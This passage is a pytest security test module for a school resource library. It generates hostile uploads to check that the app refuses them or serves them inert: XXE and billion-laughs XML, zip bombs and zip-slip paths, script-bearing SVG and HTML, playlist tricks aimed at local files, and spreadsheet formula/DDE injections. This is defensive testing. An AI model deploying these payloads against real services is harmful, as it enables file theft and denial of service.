"""The hostile upload and media corpus: files made here, at test time, that try to make the library read a
file it must not, open a connection, spend unbounded memory or time, or run as a page of the site. Each is
sent through the real paths (the web upload, the API, the cover upload, the 资源目录 field, the catalogue
and roster imports, the accounts export) and, when stored, through the worker's processing.

Two canaries watch every case. A file outside the instance folder holds a unique token; the hostile inputs
name it (file: URLs, absolute paths in playlists and concat scripts, XML external entities, symlinks in
zips). A TCP port on 127.0.0.1 records every connection; the inputs point at it (HLS segments, DTDs, SVG
images, Office documents' external relations, spreadsheet formulas). After each case the token must be
nowhere the app wrote (every file of the instance folder: database, stored files, covers, thumbnails,
renditions, search index; the database's text columns, on PostgreSQL too; every response; the command
line's output), the canary file's access time must not have moved (where the filesystem keeps it), and the
port must have had no connection.
"""
import csv
import functools
import io
import os
import socket
import threading
import uuid
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import pytest
from markupsafe import escape
from openpyxl import Workbook, load_workbook
from PIL import Image
from samples import ZipMember, image_claiming, make_hls_in_avi, make_qr_image, raw_zip
from sqlalchemy import Enum, String, func, select

from reslib.extensions import db
from reslib.jobs import queue
from reslib.models import Resource, RosterEntry, User
from reslib.services import accounts, library
from reslib.testing import PASSWORD, IsolatedClient, add_resource, csrf_token, login

GIB = 1024  # in MiB, the unit of ZipMember.inflates_to


# --- the canaries ----------------------------------------------------------------------------------

def age_atime(path: Path) -> None:
    """Set the access time an hour before the modification time: then any read moves it, even on a
    relatime mount (which updates it only while it is not newer than the modification time)."""
    mtime = path.stat().st_mtime_ns
    os.utime(path, ns=(mtime - 3600 * 10**9, mtime))


@pytest.fixture(scope="module")
def atime_moves(tmp_path_factory) -> bool:
    """Whether reading a file moves its access time on this filesystem. On a noatime mount it never
    does; there the canary's access time proves nothing and only its token (searched everywhere the app
    writes) shows whether it was read."""
    probe = tmp_path_factory.mktemp("atime") / "probe"
    probe.write_bytes(b"probe")
    age_atime(probe)
    before = probe.stat().st_atime_ns
    probe.read_bytes()
    return probe.stat().st_atime_ns != before


class CanaryPort:
    """A TCP listener on 127.0.0.1, in a thread, that records every connection and answers nothing."""

    def __init__(self):
        self._server = socket.create_server(("127.0.0.1", 0))
        self._server.settimeout(0.05)  # so that the thread sees the stop flag
        self.port = self._server.getsockname()[1]
        self.connections = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                connection, peer = self._server.accept()
            except TimeoutError:
                continue
            self.connections.append(peer)
            connection.close()

    def close(self):
        self._stop.set()
        self._thread.join()
        self._server.close()


@dataclass
class Canary:
    file: Path
    token: str
    port: CanaryPort
    atime_moves: bool
    atime_ns: int

    @property
    def file_url(self) -> str:
        return self.file.as_uri()

    def url(self, path: str = "") -> str:
        return f"http://127.0.0.1:{self.port.port}/{path}"


@pytest.fixture
def canary(tmp_path, atime_moves):
    outside = tmp_path / "outside"  # the app's instance folder is tmp_path / "instance"
    outside.mkdir()
    token = f"canary-{uuid.uuid4().hex}"  # unlike the file's path, which hostile inputs do carry
    secret = outside / "secret.txt"
    secret.write_text(token + "\n")
    age_atime(secret)
    port = CanaryPort()
    yield Canary(secret, token, port, atime_moves, secret.stat().st_atime_ns)
    port.close()


class RecordingClient(IsolatedClient):
    """The test client, keeping every response (read in full) so that the canary's token is looked for in all."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.responses = []

    def open(self, *args, **kwargs):
        response = super().open(*args, **kwargs)
        response.get_data()
        response.close()  # a served file is closed, its bytes kept
        self.responses.append(response)
        return response


@pytest.fixture
def client(app):
    app.test_client_class = RecordingClient
    return app.test_client()


def assert_untouched(canary: Canary, app, client=None, *, outputs=()) -> None:
    """Nothing reached the canary port, nothing read the canary file, and its token is nowhere the app wrote."""
    assert canary.port.connections == [], "a hostile input made the app connect to the canary port"
    if canary.atime_moves:
        assert canary.file.stat().st_atime_ns == canary.atime_ns, "the canary file was read"
    forms = (canary.token.encode(), canary.token.encode("utf-16-le"))
    written = {path for root in (Path(app.instance_path), library.store().root) for path in root.rglob("*")}
    for path in written:
        if path.is_file():
            data = path.read_bytes()
            assert not any(form in data for form in forms), f"the canary's token is in {path.name}"
    for table in db.metadata.sorted_tables:  # on PostgreSQL the database is not a file of the instance folder
        for column in table.columns:
            if isinstance(column.type, String) and not isinstance(column.type, Enum):  # Text too; enums hold their own
                found = db.session.scalar(select(func.count()).select_from(table).where(column.contains(canary.token)))
                assert not found, f"the canary's token is in {table.name}.{column.name}"
    for response in client.responses if client else ():
        assert canary.token.encode() not in response.get_data(), f"the canary's token was served at {response.request.path}"
        assert canary.token not in str(response.headers)
    for output in outputs:
        assert canary.token not in output


def staging_is_empty() -> bool:
    staging = library.store().root / "staging"
    return not staging.exists() or not any(staging.iterdir())


def run_worker(app) -> None:
    app.extensions["reslib.queue"].run_pending()  # the real queue, run here instead of a worker
    db.session.expire_all()


# --- hostile content -------------------------------------------------------------------------------

def hls_playlist(*segments: str) -> bytes:
    entries = "".join(f"#EXTINF:1.0,\n{segment}\n" for segment in segments)
    header = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n"
    return f"{header}{entries}#EXT-X-ENDLIST\n".encode()


def hls_reaching_out(canary: Canary) -> bytes:
    return hls_playlist("segment0.ts", canary.file_url, str(canary.file), canary.url("segment1.ts"))


def ffconcat_reaching_out(canary: Canary) -> bytes:
    files = "".join(f"file '{target}'\n" for target in (canary.file, canary.file_url, canary.url("part.mp4")))
    return f"ffconcat version 1.0\n{files}".encode()


def id3_tag(size: int = 0) -> bytes:
    """An ID3v2.4 header (no frames, ``size`` bytes of tag after it). FFmpeg's prober skips such a tag
    before it guesses the format, so whatever follows is what it sees."""
    return b"ID3\x04\x00\x00" + bytes((size >> 21 & 0x7F, size >> 14 & 0x7F, size >> 7 & 0x7F, size & 0x7F))


def hls_in_avi(canary: Canary, work: Path, *, with_video=True) -> bytes:
    frame = Image.new("RGB", (320, 240), "navy") if with_video else None
    return make_hls_in_avi(work / "hostile.avi", canary.file, canary.url("leak.ts"), frame=frame).read_bytes()


def svg_with_script(canary: Canary) -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100"
     onload="fetch('{canary.url('onload')}')">
  <script>fetch("{canary.url('script')}").then(r => r.text()).then(t => document.title = t)</script>
  <image href="{canary.url('picture.png')}" width="10" height="10"/>
  <image xlink:href="{canary.file_url}" width="10" height="10"/>
  <foreignObject width="100" height="50">
    <iframe xmlns="http://www.w3.org/1999/xhtml" src="{canary.file_url}"/>
  </foreignObject>
</svg>""".encode()


def doctype_reaching_out(root: str, canary: Canary) -> str:
    """An internal subset declaring an external entity on the canary file and a parameter entity that
    loads a DTD from the canary port (the usual out-of-band XXE)."""
    return (f'<!DOCTYPE {root} [\n  <!ENTITY secret SYSTEM "{canary.file_url}">\n'
            f'  <!ENTITY % remote SYSTEM "{canary.url("evil.dtd")}">\n  %remote;\n]>\n')


LAUGHS = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))


def billion_laughs(root: str) -> str:
    return f"<!DOCTYPE {root} [{LAUGHS}]>\n"


def svg_with_xxe(canary: Canary) -> bytes:
    return (f'<?xml version="1.0"?>\n{doctype_reaching_out("svg", canary)}'
            '<svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="20">&secret;</text></svg>').encode()


def svg_billion_laughs(_canary: Canary) -> bytes:
    return (f'<?xml version="1.0"?>\n{billion_laughs("svg")}'
            '<svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="20">&lol9;</text></svg>').encode()


def html_page(canary: Canary) -> bytes:
    return (f'<!DOCTYPE html><html><body><script>fetch("{canary.url("html")}")</script>'
            f'<iframe src="{canary.file_url}"></iframe></body></html>').encode()


# Office Open XML: just enough of a package for the content sniffer (and Word) to know what it is.
CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                 'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                 'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>')
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relationships(*relations: tuple[str, str, bool]) -> str:
    """A .rels part: (type, target, external) each."""
    items = "".join(f'<Relationship Id="rId{n}" Type="{REL}/{kind}" Target="{target}"'
                    + (' TargetMode="External"' if external else "") + "/>"
                    for n, (kind, target, external) in enumerate(relations, start=1))
    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships">{items}</Relationships>')


def office(main: str, parts: dict[str, str]) -> bytes:
    members = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": relationships(("officeDocument", main, False)),
               **parts}
    return raw_zip([ZipMember(name, text.encode()) for name, text in members.items()])


def docx_reaching_out(canary: Canary) -> bytes:
    """XXE in the document, and the external relations Word follows when it opens a file: a remote
    template, a linked picture, a hyperlink to a local file."""
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return office("word/document.xml", {
        "word/document.xml": f'<?xml version="1.0"?>\n{doctype_reaching_out("w:document", canary)}'
                             f'<w:document {w}><w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>',
        "word/settings.xml": f'<w:settings {w} xmlns:r="{REL}"><w:attachedTemplate r:id="rId1"/></w:settings>',
        "word/_rels/settings.xml.rels": relationships(("attachedTemplate", canary.url("template.dotm"), True)),
        "word/_rels/document.xml.rels": relationships(("image", canary.url("logo.png"), True),
                                                      ("hyperlink", canary.file_url, True)),
    })


def xlsx_reaching_out(canary: Canary) -> bytes:
    """Billion laughs in the sheet, and a link to another workbook on the canary port."""
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return office("xl/workbook.xml", {
        "xl/workbook.xml": f'<workbook {main} xmlns:r="{REL}"><sheets><sheet name="成绩" sheetId="1" r:id="rId1"/>'
                           '</sheets><externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>',
        "xl/_rels/workbook.xml.rels": relationships(("worksheet", "worksheets/sheet1.xml", False),
                                                    ("externalLink", "externalLinks/externalLink1.xml", False)),
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>\n{billion_laughs("worksheet")}<worksheet {main}>'
                                    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
                                    '</sheetData></worksheet>',
        "xl/externalLinks/externalLink1.xml":
            f'<externalLink {main}><externalBook xmlns:r="{REL}" r:id="rId1"/></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels":
            relationships(("externalLinkPath", canary.url("book.xlsx"), True)),
    })


def pptx_reaching_out(canary: Canary) -> bytes:
    """A slide whose picture and video are linked, not embedded: one on the canary port, one the canary file."""
    p = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
    return office("ppt/presentation.xml", {
        "ppt/presentation.xml": f'<p:presentation {p}/>',
        "ppt/slides/slide1.xml": f'<?xml version="1.0"?>\n{doctype_reaching_out("p:sld", canary)}<p:sld {p}/>',
        "ppt/slides/_rels/slide1.xml.rels": relationships(("image", canary.url("slide.png"), True),
                                                          ("video", canary.file_url, True)),
    })


def gigabytes_of(kind: str) -> bytes:
    """An archive or Office file whose members inflate to several GiB (each compressed about 1000:1)."""
    if kind == "zip":
        return raw_zip([ZipMember(f"视频/第{n}课.mp4", inflates_to=(b"\0", GIB)) for n in range(1, 6)])
    if kind == "overlapping":  # one member's data, named by many entries (Fifield's "better zip bomb")
        return raw_zip([ZipMember("kernel.bin", inflates_to=(b"\0", GIB)),
                        *(ZipMember(f"copy{n}.bin", shares_data_of=0) for n in range(1, 8))])
    folder, main = {"docx": ("word", "document.xml"), "pptx": ("ppt", "presentation.xml")}[kind]
    return raw_zip([ZipMember("[Content_Types].xml", CONTENT_TYPES.encode()),
                    ZipMember("_rels/.rels", relationships(("officeDocument", f"{folder}/{main}", False)).encode()),
                    *(ZipMember(f"{folder}/{name}", inflates_to=(b" ", GIB))
                      for name in (main, "styles.xml", "settings.xml"))])


def zip_with(name: str, data: bytes = b"<script>alert(1)</script>", *, symlink=False) -> bytes:
    return raw_zip([ZipMember("index.html", "<h1>勾股定理 课件</h1>".encode()), ZipMember(name, data, symlink=symlink)])


def qr_png(text: str) -> bytes:
    out = io.BytesIO()
    make_qr_image(None, text, scale=4).save(out, "PNG")
    return out.getvalue()


@functools.cache
def megapixels_png(width: int, height: int) -> bytes:
    """Real pixels, all black, in a file of a few KB: the classic decompression bomb."""
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG")
    return out.getvalue()


# --- uploads: the web upload and the API, then the worker -------------------------------------------

@dataclass(frozen=True)
class Refused:
    status: int
    code: str
    says: str  # part of the message the uploader reads


@dataclass(frozen=True)
class Stored:
    kind: str
    extension: str  # of the stored name: the content decides it, not the name sent
    processing: str  # after the worker: "done", or "failed" with its reason shown
    preview: str | None  # the type the preview serves; None: no preview (403), a download only
    checks_say: str = ""  # what the automatic checks on its review page say of it


@dataclass(frozen=True)
class Upload:
    id: str
    name: str  # as the client sends it
    make: Callable[[Canary, Path], bytes]
    outcome: Refused | Stored


UNSUPPORTED = Refused(415, "unsupported_type", "不支持的文件类型")
TOO_MANY_PIXELS = Refused(413, "image_too_large", "图片尺寸过大")
ZIP_BOMB = Refused(413, "zip_bomb", "疑似压缩炸弹")
UNSAFE_ARCHIVE = Refused(422, "unsafe_archive", "解压到压缩包之外")
SVG_STORED = Stored("image", "svg", "failed", None)  # the worker decodes no SVG; the file is a download only
OFFICE_STORED = {ext: Stored("document", ext, "done", None) for ext in ("docx", "xlsx", "pptx")}

UPLOADS = [
    # Playlists and concat scripts disguised as video: FFmpeg follows them to local files and URLs.
    Upload("hls_playlist_named_mp4", "第一课时.mp4", lambda c, w: hls_reaching_out(c), UNSUPPORTED),
    Upload("m3u8_with_file_and_http_segments", "playlist.m3u8",
           lambda c, w: hls_playlist(c.file_url, c.url("segment.ts")), UNSUPPORTED),
    Upload("hls_behind_an_id3_tag", "朗读.mp3", lambda c, w: id3_tag() + hls_reaching_out(c), UNSUPPORTED),
    Upload("ffconcat_named_mp4", "实验.mp4", lambda c, w: ffconcat_reaching_out(c), UNSUPPORTED),
    Upload("ffconcat_named_mov", "实验.mov", lambda c, w: ffconcat_reaching_out(c), UNSUPPORTED),
    # A real AVI (so stored): the playlist hides in its subtitle stream, through probe, cover, rendition and scan.
    Upload("hls_in_avi", "实验演示.avi", hls_in_avi, Stored("video", "avi", "done", "video/mp4")),
    # Image bombs: headers claiming billions of pixels, and real pixels in a file of a few KB.
    Upload("png_claiming_50000x50000", "全景.png", lambda c, w: image_claiming("PNG", 50_000, 50_000), TOO_MANY_PIXELS),
    Upload("jpeg_claiming_50000x50000", "照片.jpg", lambda c, w: image_claiming("JPEG", 50_000, 50_000), TOO_MANY_PIXELS),
    Upload("gif_claiming_65535x65535", "动图.gif", lambda c, w: image_claiming("GIF", 65_535, 65_535), TOO_MANY_PIXELS),
    Upload("png_of_64_megapixels", "板书.png", lambda c, w: megapixels_png(8000, 8000), TOO_MANY_PIXELS),
    # Zip bombs, judged from the central directory: nothing is inflated to refuse them.
    Upload("zip_of_5_gib", "课件包.zip", lambda c, w: gigabytes_of("zip"), ZIP_BOMB),
    Upload("overlapping_zip_of_8_gib", "课件包.zip", lambda c, w: gigabytes_of("overlapping"), ZIP_BOMB),
    Upload("docx_of_3_gib", "教案.docx", lambda c, w: gigabytes_of("docx"), ZIP_BOMB),
    Upload("pptx_of_3_gib", "课件.pptx", lambda c, w: gigabytes_of("pptx"), ZIP_BOMB),
    # Archives that unpack outside their folder on a teacher's or pupil's machine.
    Upload("zip_with_symlink_to_the_canary", "课件包.zip",
           lambda c, w: zip_with("素材/说明.txt", str(c.file).encode(), symlink=True), UNSAFE_ARCHIVE),
    Upload("zip_with_parent_path", "课件包.zip", lambda c, w: zip_with("../../../../tmp/evil.html"), UNSAFE_ARCHIVE),
    Upload("zip_with_windows_parent_path", "课件包.zip",
           lambda c, w: zip_with("..\\..\\Start Menu\\Programs\\Startup\\evil.bat", b"calc"), UNSAFE_ARCHIVE),
    Upload("zip_with_absolute_path", "课件包.zip", lambda c, w: zip_with("/etc/cron.d/evil", b"* * * * * root id"),
           UNSAFE_ARCHIVE),
    # SVG and HTML disguised as images and documents.
    Upload("svg_with_script_named_png", "示意图.png", lambda c, w: svg_with_script(c), SVG_STORED),
    Upload("svg_with_xxe_named_png", "示意图.png", lambda c, w: svg_with_xxe(c), SVG_STORED),
    Upload("svg_billion_laughs_named_png", "示意图.png", lambda c, w: svg_billion_laughs(c), SVG_STORED),
    Upload("html_named_pdf", "教案.pdf", lambda c, w: html_page(c), UNSUPPORTED),
    Upload("html_named_docx", "教案.docx", lambda c, w: html_page(c), UNSUPPORTED),
    Upload("html_behind_a_pdf_header", "讲义.pdf", lambda c, w: b"%PDF-1.4\n" + html_page(c),
           Stored("pdf", "pdf", "failed", "application/pdf")),
    Upload("html_behind_a_gif_header", "图.png", lambda c, w: b"GIF89a" + html_page(c),
           Refused(400, "unreadable_file", "无法读取该图片")),
    # XML that reaches out, inside Office files (stored as they are: the library never parses them).
    Upload("docx_with_xxe_and_external_relations", "教案.docx", lambda c, w: docx_reaching_out(c), OFFICE_STORED["docx"]),
    Upload("xlsx_with_billion_laughs_and_external_link", "成绩.xlsx", lambda c, w: xlsx_reaching_out(c),
           OFFICE_STORED["xlsx"]),
    Upload("pptx_with_linked_media", "课件.pptx", lambda c, w: pptx_reaching_out(c), OFFICE_STORED["pptx"]),
    # A QR code is read, never followed; its text, markup here, is shown to reviewers as text.
    Upload("qr_code_of_markup", "二维码.png", lambda c, w: qr_png(f"<img src=x onerror=fetch('{c.url('qr')}')>"),
           Stored("image", "png", "done", "image/png", checks_say="图片中发现二维码（&lt;img src=x onerror=fetch(")),
]

# Content types a browser runs as a page of the site, were it to show them.
ACTIVE_TYPES = ("text/html", "application/xhtml+xml", "image/svg+xml", "text/xml", "application/xml")


def send(client, channel: str, content: bytes, name: str, user) -> object:
    headers = {"X-File-Name": quote(name), "Content-Type": "application/octet-stream"}
    if channel == "web":
        headers["X-CSRFToken"] = csrf_token(client, "/dashboard")
        return client.post("/upload/files", data=content, headers=headers)
    headers["Authorization"] = f"Bearer {accounts.create_token(user, '上传脚本')}"
    return client.post("/api/v1/resources", data=content, headers=headers)


def assert_inert(response) -> None:
    """Headers that keep a served file from running as a page of this site."""
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"]


def assert_served_safely(app, client, resource: Resource, expected: Stored) -> None:
    assert resource.processing == expected.processing, resource.processing_failure
    page = client.get(f"/resources/{resource.id}")  # the owner's page of the draft, with the failure's reason
    assert page.status_code == 200
    assert app.instance_path not in page.get_data(as_text=True)  # a reason names no server path
    if expected.processing == "failed":
        assert resource.processing_failure in page.get_data(as_text=True)

    preview = client.get(f"/resources/{resource.id}/preview")
    if expected.preview is None:
        assert preview.status_code == 403
    else:
        assert (preview.status_code, preview.mimetype) == (200, expected.preview)
        assert preview.mimetype not in ACTIVE_TYPES
        assert_inert(preview)
    # A download is an attachment, which browsers save rather than show whatever its type; nosniff and
    # the sandbox keep it inert even if it were shown.
    download = client.get(f"/resources/{resource.id}/download")
    assert download.status_code == 200 and download.headers["Content-Disposition"].startswith("attachment;")
    assert download.mimetype != "text/html" and "sandbox" in download.headers["Content-Security-Policy"]
    assert_inert(download)
    review = client.get(f"/resources/{resource.id}/review").get_data(as_text=True)  # the automatic checks
    assert expected.checks_say in review and "<img src=x" not in review
    for image in ("cover", "thumb"):
        if getattr(resource, f"{image}_sha256"):
            served = client.get(f"/resources/{resource.id}/{image}")
            assert served.mimetype == "image/jpeg"
            assert_inert(served)
            with Image.open(io.BytesIO(served.data)) as picture:
                assert picture.format == "JPEG"


@pytest.mark.parametrize("channel", ["web", "api"])
@pytest.mark.parametrize("case", UPLOADS, ids=lambda case: case.id)
def test_hostile_upload(app, client, district, canary, tmp_path, case, channel):
    login(client, "teacher.a")
    response = send(client, channel, case.make(canary, tmp_path), case.name, district.teacher_a)
    if isinstance(case.outcome, Refused):
        error = response.get_json()["error"]
        assert (response.status_code, error["code"]) == (case.outcome.status, case.outcome.code), error
        assert case.outcome.says in error["message"]
        assert Resource.query.count() == 0 and staging_is_empty() and not list(library.store().iter_blobs())
    else:
        assert response.status_code == 201, response.get_json()
        resource = db.session.get(Resource, response.get_json()["id"])
        assert (resource.file_kind, resource.file_name.rsplit(".", 1)[1]) == (case.outcome.kind, case.outcome.extension)
        run_worker(app)
        assert_served_safely(app, client, db.session.get(Resource, resource.id), case.outcome)
    assert_untouched(canary, app, client)


# --- the worker, should a playlist get past the sniffer --------------------------------------------

PAST_THE_SNIFFER = {  # id: (kind the resource claims, content)
    "hls_playlist": ("video", lambda c, w: hls_reaching_out(c)),
    "ffconcat_script": ("video", lambda c, w: ffconcat_reaching_out(c)),
    "hls_behind_an_id3_tag": ("audio", lambda c, w: id3_tag() + hls_reaching_out(c)),
    "hls_in_avi_without_video": ("video", lambda c, w: hls_in_avi(c, w, with_video=False)),
}


@pytest.mark.parametrize("case", PAST_THE_SNIFFER)
def test_the_worker_follows_no_playlist_that_got_past_the_sniffer(app, client, district, canary, tmp_path, case):
    """The sniffer refuses these; were it ever fooled, FFmpeg (PyAV's for the probe and frames, the command's
    for renditions) opens a stored file only through the plain container demuxers and the file protocol.
    (The FFmpeg here refuses them on its own too: no HLS from a file not named .m3u8, no concat outside its
    safe mode; the whitelists hold where an older FFmpeg does not.)"""
    kind, make = PAST_THE_SNIFFER[case]
    resource = add_resource(district.teacher_a, status="draft", content=make(canary, tmp_path), file_kind=kind,
                            file_mime="video/mp4" if kind == "video" else "audio/mpeg", inline_safe=True,
                            processing="pending")
    queue().enqueue("process_resource", resource.id)
    run_worker(app)
    resource = db.session.get(Resource, resource.id)
    assert resource.processing == "failed"
    assert ("视频" if kind == "video" else "音频") in resource.processing_failure
    assert not (resource.cover_sha256 or resource.rendition_sha256)
    login(client, "teacher.a")
    assert client.get(f"/resources/{resource.id}").status_code == 200
    assert_untouched(canary, app, client)


# --- the uploader's own cover ------------------------------------------------------------------------

def jpeg_with_html_comment(canary: Canary) -> bytes:
    """A real JPEG carrying a page in its comment segment: fine as a picture, harmful if sniffed as HTML."""
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "teal").save(out, "JPEG", comment=html_page(canary))
    return out.getvalue()


COVERS = {  # id: (content, what the uploader is told)
    "jpeg_claiming_50000x50000": (lambda c: image_claiming("JPEG", 50_000, 50_000), "图片尺寸过大"),
    "svg_with_script": (svg_with_script, "封面须为 JPG 图片"),
    "html": (html_page, "不支持的文件类型"),
    "jpeg_with_html_in_its_comment": (jpeg_with_html_comment, "封面已上传"),
}


@pytest.mark.parametrize("case", COVERS)
def test_hostile_cover(app, client, district, canary, case):
    make, says = COVERS[case]
    resource = add_resource(district.teacher_a, status="draft")
    login(client, "teacher.a")
    edit = f"/resources/{resource.id}/edit"
    response = client.post(f"{edit}/cover", data={"csrf_token": csrf_token(client, edit), "shown_status": "draft",
                                                   "cover": (io.BytesIO(make(canary)), "封面.jpg")})
    assert response.status_code == 302
    assert says in client.get(edit).get_data(as_text=True)
    run_worker(app)
    resource = db.session.get(Resource, resource.id)
    assert staging_is_empty()
    if case == "jpeg_with_html_in_its_comment":
        assert resource.cover_from_uploader and resource.thumb_sha256 and resource.processing == "done"
        for image in ("cover", "thumb"):
            served = client.get(f"/resources/{resource.id}/{image}")
            assert served.mimetype == "image/jpeg" and "sandbox" in served.headers["Content-Security-Policy"]
            assert_inert(served)
    else:
        assert resource.cover_sha256 is None and not resource.cover_from_uploader
    assert_untouched(canary, app, client)


# --- 资源目录: the catalogue field is XML ---------------------------------------------------------------

NO_ENTITIES = "资源目录不能包含 DTD 或实体定义"
CATALOGUES = {  # id: (the 资源目录 sent, what the editor is told, or None when it is saved)
    "external_entity_on_the_canary_file": (
        lambda c: f'<?xml version="1.0"?><!DOCTYPE 目录 [<!ENTITY secret SYSTEM "{c.file_url}">]><目录><章>&secret;</章></目录>',
        NO_ENTITIES),
    "external_entity_on_the_canary_port": (
        lambda c: f'<!DOCTYPE 目录 [<!ENTITY remote SYSTEM "{c.url("chapter.xml")}">]><目录>&remote;</目录>', NO_ENTITIES),
    "parameter_entity_loading_a_remote_dtd": (
        lambda c: f'{doctype_reaching_out("目录", c)}<目录><章>&secret;</章></目录>', NO_ENTITIES),
    "billion_laughs": (lambda c: f"{billion_laughs('目录')}<目录>&lol9;</目录>", NO_ENTITIES),
    "quadratic_blowup": (  # one long entity, referenced many times: no nesting for a depth limit to catch
        lambda c: f'<!DOCTYPE 目录 [<!ENTITY a "{"勾股" * 4000}">]><目录>{"&a;" * 2000}</目录>', NO_ENTITIES),
    # A DTD that declares nothing is never fetched (no parser here loads external DTDs): saved, inert.
    "external_dtd_declaring_nothing": (
        lambda c: f'<!DOCTYPE 目录 SYSTEM "{c.url("catalogue.dtd")}"><目录><章 名="第一章 勾股定理"/></目录>', None),
}


@pytest.mark.parametrize("channel", ["form", "api"])
@pytest.mark.parametrize("case", CATALOGUES)
def test_hostile_catalogue_xml(app, client, district, canary, case, channel):
    make, says = CATALOGUES[case]
    xml = make(canary)
    resource = add_resource(district.teacher_a, status="draft", title="勾股定理")
    login(client, "teacher.a")
    edit = f"/resources/{resource.id}/edit"
    if channel == "form":
        response = client.post(edit, data={"csrf_token": csrf_token(client, edit), "title": "勾股定理",
                                            "catalogue_xml": xml})
        assert response.status_code == (302 if says is None else 422)
        assert says is None or says in response.get_data(as_text=True)
    else:
        token = accounts.create_token(district.teacher_a, "目录脚本")
        response = client.patch(f"/api/v1/resources/{resource.id}", json={"catalogue_xml": xml},
                                headers={"Authorization": f"Bearer {token}"})
        assert response.status_code == (200 if says is None else 422), response.get_json()
        assert says is None or response.get_json()["error"]["fields"] == {"catalogue_xml": says}
    db.session.expire_all()  # the request saved in a session of its own
    assert (db.session.get(Resource, resource.id).catalogue_xml or "") == ("" if says else xml)
    page = client.get(f"/resources/{resource.id}")  # where the catalogue is parsed again, to be shown
    assert page.status_code == 200
    assert says is not None or "第一章 勾股定理" in page.get_data(as_text=True)
    assert_untouched(canary, app, client)


# --- spreadsheets: the catalogue import and the roster import -----------------------------------------

def formulas(canary: Canary) -> list[str]:
    """Cells a spreadsheet program would run (DDE, a link that phones home, …), one per formula start."""
    return [f'=HYPERLINK("{canary.url("prize")}","点此领取奖品")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def csv_bytes(rows) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8-sig")


def xlsx_bytes(rows, parts: dict[str, bytes | ZipMember] | None = None, *, formula_cells=()) -> bytes:
    """A workbook made by openpyxl, every cell text (even one starting with "=") except those in
    ``formula_cells`` (such as "C2"); ``parts`` then replace or add package parts, byte by byte."""
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f" and cell.coordinate not in formula_cells:
                cell.data_type = "s"
    out = io.BytesIO()
    workbook.save(out)
    parts = dict(parts or {})
    with zipfile.ZipFile(out) as made:
        members = [ZipMember(name, made.read(name)) for name in made.namelist() if name not in parts]
    members += [part if isinstance(part, ZipMember) else ZipMember(name, part) for name, part in parts.items()]
    return raw_zip(members)


SHEET_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def sheet_part(doctype: str, rows: list[list[str]], *, shared=False) -> bytes:
    """A worksheet part under ``doctype``, whose cells are inline text, or (``shared``) the shared strings' indexes."""
    def cell(ref: str, text: str) -> str:
        if shared:
            return f'<c r="{ref}" t="s"><v>{text}</v></c>'
        return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'

    body = "".join(f'<row r="{n}">' + "".join(cell(f"{'ABCDEF'[i]}{n}", text) for i, text in enumerate(row)) + "</row>"
                   for n, row in enumerate(rows, start=1))
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}'
            f'<worksheet {SHEET_NS}><sheetData>{body}</sheetData></worksheet>').encode()


def with_shared_strings(doctype: str, strings: list[str], cells: list[list[str]]) -> dict[str, bytes]:
    """The parts of a workbook whose cells name shared strings, and the shared strings part (with ``doctype``)."""
    items = "".join(f"<si><t>{text}</t></si>" for text in strings)
    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
             'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
             '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
             'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml"'
             ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    return {"[Content_Types].xml": types.encode(), "xl/worksheets/sheet1.xml": sheet_part("", cells, shared=True),
